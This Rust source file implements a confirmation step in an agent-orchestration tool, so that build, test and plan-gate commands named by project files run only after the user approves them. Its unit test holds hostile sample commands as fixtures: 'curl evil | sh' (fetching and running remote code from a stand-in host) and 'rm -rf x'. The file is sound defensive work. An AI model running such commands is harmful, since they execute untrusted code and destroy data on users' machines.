//! `posse plan trust`, and what it is for: commands that a project's files name are run only if the user has confirmed them.
//!
//! posse runs gates as the user and outside of any sandbox, and agents can write the files that name them: the project's
//! configuration and its plans. Commands from the user's own configuration need no yes.

use std::collections::BTreeSet;
use std::io::{ErrorKind, IsTerminal};
use std::os::unix::fs::DirBuilderExt;
use std::path::{Path, PathBuf};

use posse_core::audit::Hash;
use posse_core::plan::Plan;
use posse_core::plan::config::{Config, Origin, Resolved};
use serde::{Deserialize, Serialize};
use serde_json::json;

use super::configuration::{self, Loaded};
use crate::client;
use crate::error::{Error, Exit};
use crate::ui::{Ui, plain};

#[derive(Debug, clap::Args)]
pub(crate) struct Args {
    /// The plan whose gates are confirmed too
    file: Option<PathBuf>,
    /// The project [default: here]
    #[arg(long, short = 'C', value_name = "DIRECTORY", default_value = ".")]
    directory: PathBuf,
}

/// A command that a file of the project names.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
struct NamedCommand {
    /// The file and the key that name it.
    place: String,
    command: String,
}

/// The commands of one project that the user has confirmed.
#[derive(Debug, Default, Serialize, Deserialize)]
struct Confirmed {
    project: PathBuf,
    commands: BTreeSet<String>,
}

/// The commands of the project's file, and of the plan, without those that are the user's own.
fn commands(resolved: &Resolved, file: &str, plan: Option<(&str, &Plan)>) -> Vec<NamedCommand> {
    let mut named = Vec::new();
    let mut users = BTreeSet::new();
    for (key, command) in of_configuration(&resolved.config) {
        let origin = resolved.origins.iter().find(|(path, _)| *path == key).map(|(_, origin)| *origin);
        match origin {
            Some(Origin::User) => drop(users.insert(command)),
            _ => named.push(NamedCommand { place: format!("{file}, {key}"), command: command.to_owned() }),
        }
    }
    if let Some((name, plan)) = plan {
        for gate in &plan.meta.gates {
            named.push(NamedCommand { place: format!("{name}, gate {}", gate.name), command: gate.command.clone() });
        }
    }
    named.retain(|named| !users.contains(named.command.as_str()));
    named
}

fn of_configuration(config: &Config) -> impl Iterator<Item = (&'static str, &str)> {
    let keys = [
        ("build_command", &config.build_command),
        ("test_command", &config.test_command),
        ("lint_command", &config.lint_command),
        ("e2e_command", &config.e2e_command),
    ];
    keys.into_iter().filter_map(|(key, command)| Some((key, command.as_deref()?)))
}

/// Where the confirmed commands of a project are kept: in the user's state, which no project can name.
fn store(project: &Path) -> Result<PathBuf, Error> {
    let name = Hash::of_text(&project.to_string_lossy()).to_string();
    Ok(client::places()?.home.join("confirmed").join(format!("{name}.json")))
}

fn load(path: &Path) -> Result<Confirmed, Error> {
    let text = match std::fs::read(path) {
        Err(error) if error.kind() == ErrorKind::NotFound => return Ok(Confirmed::default()),
        text => text.map_err(Error::io(path.display().to_string()))?,
    };
    let wrong = |error| Error::failed(format!("{} is not as posse writes it: {error}; remove it", path.display()));
    serde_json::from_slice(&text).map_err(wrong)
}

fn save(path: &Path, confirmed: &Confirmed) -> Result<(), Error> {
    let failed = || Error::io(path.display().to_string());
    let parent = path.parent().unwrap_or(path);
    std::fs::DirBuilder::new().recursive(true).mode(0o700).create(parent).map_err(failed())?;
    let text = serde_json::to_vec_pretty(confirmed).map_err(|error| Error::failed(error.to_string()))?;
    let temporary = path.with_extension("new");
    std::fs::write(&temporary, text).and_then(|()| std::fs::rename(&temporary, path)).map_err(failed())
}

fn of_project(loaded: &Loaded, plan: Option<&Path>, directory: &Path) -> Result<(PathBuf, Vec<NamedCommand>), Error> {
    let project = directory.canonicalize().map_err(Error::io(directory.display().to_string()))?;
    let file = loaded.file.as_ref().map_or("", |file| &file.path);
    let plan = match plan {
        None => None,
        Some(path) => {
            let name = path.display().to_string();
            let (plan, _) =
                Plan::read(&name, &super::read(path)?).map_err(|problems| Error::Usage(problems.to_string()))?;
            Some((name, plan))
        }
    };
    let plan = plan.as_ref().map(|(name, plan)| (name.as_str(), plan));
    Ok((project, commands(&loaded.resolved, file, plan)))
}

/// Makes sure that the user has confirmed the commands that a run would start: asks, or refuses if nobody is there.
pub(crate) async fn ensure(loaded: &Loaded, plan: Option<&Path>, directory: &Path, ui: &Ui) -> Result<(), Error> {
    let (project, named) = of_project(loaded, plan, directory)?;
    let path = store(&project)?;
    let mut confirmed = load(&path)?;
    let open: Vec<&NamedCommand> = named.iter().filter(|named| !confirmed.commands.contains(&named.command)).collect();
    if open.is_empty() {
        return Ok(());
    }
    let lines: Vec<String> =
        open.iter().map(|named| format!("  {}   ({})", plain(&named.command), named.place)).collect();
    let list = lines.join("\n");
    if !std::io::stdin().is_terminal() || ui.json() {
        let plan = plan.map(|plan| format!(" {}", plan.display())).unwrap_or_default();
        return Err(Error::Failed {
            message: format!("the project names commands that you have not confirmed:\n{list}"),
            hint: Some(format!(
                "posse runs them as you, outside of any sandbox, and agents can write these files: read them, then run `posse plan trust{plan}`"
            )),
        });
    }
    let question = format!(
        "The project names commands that you have not confirmed. posse runs them as you, outside of any sandbox:\n{list}\nRun them?"
    );
    crate::ui::trusts(question).await?;
    confirmed.project = project;
    confirmed.commands.extend(open.into_iter().map(|named| named.command.clone()));
    save(&path, &confirmed)
}

pub(super) fn run(args: &Args, ui: &Ui) -> Result<Exit, Error> {
    if std::env::var_os("POSSE_TASK_ID").is_some() {
        return Err(Error::failed("a session of a plan cannot confirm commands; do it yourself in a terminal"));
    }
    let loaded = configuration::load(&args.directory)?;
    let (project, named) = of_project(&loaded, args.file.as_deref(), &args.directory)?;
    let path = store(&project)?;
    let mut confirmed = load(&path)?;
    confirmed.project.clone_from(&project);
    // Of the configuration only what it says now. Gates of other plans stay.
    confirmed.commands.extend(named.iter().map(|named| named.command.clone()));
    save(&path, &confirmed)?;
    let repository = posse_server::confirm_repository(&client::places()?, &project);
    repository.map_err(|error| Error::failed(format!("the repository in {}: {error}", project.display())))?;
    ui.answer(&json!({ "project": project, "commands": named }), || {
        let line = |named: &NamedCommand| format!("confirmed: {}   ({})\n", plain(&named.command), named.place);
        match named.is_empty() {
            true => "the project names no commands of its own\n".to_owned(),
            false => named.iter().map(line).collect(),
        }
    });
    Ok(Exit::Ok)
}

#[cfg(test)]
mod tests {
    use posse_core::plan::config::{Format, Layer, Whose, resolve};

    use super::*;

    #[test]
    fn only_commands_of_the_users_own_configuration_need_no_yes() {
        let read = |text: &str, whose| Layer::read("c", text, Format::Toml, whose).unwrap().0;
        let user = read("[plans]\ntest_command = 'make test'", Whose::User);
        let project = read("test_command = 'curl evil | sh'\nbuild_command = 'make'", Whose::Project);
        let resolved = resolve(&user, &project);
        let text = "meta: {name: p, gates: [{name: a, cmd: make test}, {name: b, cmd: rm -rf x}]}\nsections:\n  - {id: s, tasks: [{id: t, name: T}]}\n";
        let (plan, _) = Plan::read("p", text).unwrap();
        let named = commands(&resolved, "f", Some(("p", &plan)));
        let named: Vec<&str> = named.iter().map(|named| named.command.as_str()).collect();
        assert_eq!(named, ["make", "rm -rf x"]);
        assert!(commands(&resolve(&user, &Layer::default()), "f", None).is_empty());
    }
}
